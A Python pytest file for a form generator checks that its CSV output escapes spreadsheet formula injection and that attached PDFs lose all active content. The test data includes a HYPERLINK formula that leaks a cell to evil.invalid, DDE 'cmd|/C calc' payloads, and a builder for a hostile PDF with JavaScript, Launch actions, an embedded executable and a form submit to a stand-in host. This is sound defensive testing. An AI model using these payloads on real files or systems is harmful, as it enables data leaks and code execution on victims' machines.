"""Nothing formgen writes may act when it is opened: no formula in deadlines.csv (OWASP CSV injection),
no script, action, outside link or embedded file from an attachment in packet.pdf."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfReader

from conftest import INBOX, ROOT, run_formgen
from generator.deadlines.outputs import FORMULA_STARTS, csv_text, spreadsheet_safe
from generator.packet import without_active_content

ACTIVE = {"/JS", "/JavaScript", "/Launch", "/URI", "/EmbeddedFile", "/EmbeddedFiles", "/OpenAction", "/AA",
          "/FileAttachment", "/EF", "/XFA", "/SubmitForm", "/ImportData", "/GoToR", "/RichMedia"}
HOSTILE_NAME = '=HYPERLINK("http://evil.invalid/?leak="&A2,"詳細")'


# ── CSV ────────────────────────────────────────────────────────────────────────────────────────────

@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_written_as_text(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["デウィ・アユ・レスタリ", "2026-11-24", "case-001", "", "a=b", "1-2"])
def test_ordinary_cells_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_every_cell_of_deadlines_csv_is_escaped_and_quoted():
    from generator.api import CaseSource, check_source
    from generator.deadlines.compute import compute_deadlines

    checked = check_source(CaseSource(INBOX / "epa-return-home-dewi.yaml", INBOX))
    deadlines = compute_deadlines(checked.case, "@evil", dt.date(2026, 11, 17))
    for deadline in deadlines:
        deadline.person = "\t=cmd|' /C calc'!A0"
        deadline.notes = ["-2+3+cmd|' /C calc'!A0"]
    text = csv_text(deadlines)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][:2] == ["'@evil", "'\t=cmd|' /C calc'!A0"]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert text.lstrip("\ufeff").startswith('"case_id","person"')


@pytest.mark.slow
def test_libreoffice_calc_opens_the_outbox_csv_without_a_single_formula(tmp_path):
    """The real thing: a name typed as a formula, opened by LibreOffice Calc (formulas evaluated on import)."""
    openpyxl = pytest.importorskip("openpyxl")
    inbox, out = tmp_path / "inbox", tmp_path / "outbox"
    shutil.copytree(INBOX / "parties", inbox / "parties")
    text = (INBOX / "epa-return-home-dewi.yaml").read_text(encoding="utf-8")
    name = HOSTILE_NAME.replace('"', '\\"')
    (inbox / "hostile.yaml").write_text(text.replace("  name: デウィ・アユ・レスタリ", f'  name: "{name}"'),
                                        encoding="utf-8")
    result = run_formgen("build", str(inbox), "--out", str(out), "--format", "docx")
    assert result.returncode == 0, result.stdout + result.stderr
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    converted = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(out / "deadlines.csv")],
        capture_output=True, text=True, timeout=120)
    workbook_path = tmp_path / "deadlines.xlsx"
    assert workbook_path.exists(), converted.stdout + converted.stderr  # Calc: libreoffice-calc-nogui (setup.sh)
    sheet = openpyxl.load_workbook(workbook_path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(str(c.value).endswith(HOSTILE_NAME) for c in cells)  # shown as the text that was typed


# ── attachments in packet.pdf ──────────────────────────────────────────────────────────────────────

def hostile_pdf(path: Path, pages: int = 2) -> Path:
    """Every kind of active content a PDF can carry, on a document of blank pages."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('opened')")))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('closing')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script])))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really", mime_type="application/x-msdownload")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))

    def annotation(rect: list[int], **entries) -> Dictionary:
        return pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array(rect), **entries))

    page.Annots = annotations = Array([
        annotation([0, 0, 99, 99], Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://evil.invalid/"))),
        annotation([0, 100, 99, 199], Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe"))),
        annotation([0, 200, 99, 299], Subtype=Name.Link,
                   A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]),
                                Next=Dictionary(S=Name.JavaScript, JS=String("app.alert('chained')")))),
        annotation([0, 300, 9, 309], Subtype=Name.FileAttachment, FS=pdf.attachments["payload.exe"].obj),
        annotation([0, 400, 99, 499], Subtype=Name.Widget, FT=Name.Btn,
                   A=Dictionary(S=Name.SubmitForm, F=String("http://evil.invalid/collect")),
                   AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("app.alert('hover')")))),
        annotation([0, 500, 99, 599], Subtype=Name.Link, Dest=Array([pdf.pages[1].obj, Name.Fit])),  # harmless
    ])
    pdf.Root.AcroForm.Fields.append(annotations[4])
    path.parent.mkdir(parents=True, exist_ok=True)
    pdf.save(path)
    return path


def active_content(path: Path) -> set[str]:
    """Every key or name of `ACTIVE` found anywhere in the file, in every object."""
    found: set[str] = set()
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            todo = [obj]
            while todo:
                value = todo.pop()
                if isinstance(value, (pikepdf.Dictionary, pikepdf.Stream)):
                    items = [(key, value[key]) for key in value.keys()]
                elif isinstance(value, pikepdf.Array):
                    items = [("", item) for item in value]
                else:
                    continue
                for key, item in items:
                    if key in ACTIVE:
                        found.add(key)
                    if isinstance(item, pikepdf.Name) and str(item) in ACTIVE:
                        found.add(str(item))
                    if isinstance(item, (pikepdf.Dictionary, pikepdf.Array)) and not item.is_indirect:
                        todo.append(item)
    return found


def test_the_hostile_attachment_really_carries_all_of_it(tmp_path):
    assert active_content(hostile_pdf(tmp_path / "hostile.pdf")) >= {
        "/JS", "/JavaScript", "/Launch", "/URI", "/EmbeddedFile", "/EmbeddedFiles", "/OpenAction", "/AA",
        "/FileAttachment", "/EF", "/XFA", "/SubmitForm"}


def test_an_attachment_copy_keeps_its_pages_and_inner_links_and_loses_every_active_part(tmp_path):
    source = hostile_pdf(tmp_path / "hostile.pdf", pages=3)
    removed = without_active_content(source, tmp_path / "clean.pdf")
    assert removed >= 10
    assert active_content(tmp_path / "clean.pdf") == set()
    with pikepdf.open(tmp_path / "clean.pdf") as clean:
        assert len(clean.pages) == 3
        kept = [(str(a.Subtype), "/Dest" in a) for a in clean.pages[0].Annots]
        assert kept == [("/Widget", False), ("/Link", True)]  # the button stays, without its actions
    assert without_active_content(tmp_path / "clean.pdf", tmp_path / "again.pdf") == 0


@pytest.mark.slow
def test_packet_pdf_carries_none_of_an_attachments_active_content_and_the_cover_says_so(tmp_path, warm_converter):
    inbox, forms, out = tmp_path / "inbox", tmp_path / "forms", tmp_path / "outbox"
    shutil.copytree(INBOX / "parties", inbox / "parties")
    shutil.copytree(ROOT / "forms" / "mhlw-8", forms / "mhlw-8")
    text = (INBOX / "epa-return-home-dewi.yaml").read_text(encoding="utf-8")
    text += "attachments:\n  - title: 在留カードの写し\n    file: attachments/card.pdf\n"
    (inbox / "with-attachment.yaml").write_text(text, encoding="utf-8")
    hostile_pdf(inbox / "attachments" / "card.pdf", pages=2)
    result = run_formgen("build", str(inbox), "--out", str(out), "--format", "pdf",
                         env={"FORMGEN_FORMS": str(forms), "FORMGEN_CONVERT_TIMEOUT": "60"})
    assert result.returncode == 0, result.stdout + result.stderr
    packet = out / "with-attachment" / "packet.pdf"
    assert active_content(packet) == set()
    reader = PdfReader(packet)
    cover = reader.pages[0].extract_text().replace("\n", "")
    assert "在留カードの写し）は、JavaScript・リンク・埋め込みファイルなどの動作する内容を取り除いて綴じています" in cover
    assert len(reader.pages) >= 1 + 1 + 2  # cover, the form, the attachment's two pages
    subprocess.run(["pdftoppm", "-r", "60", "-png", "-f", "1", "-l", "1", str(packet), str(tmp_path / "cover")],
                   check=False)
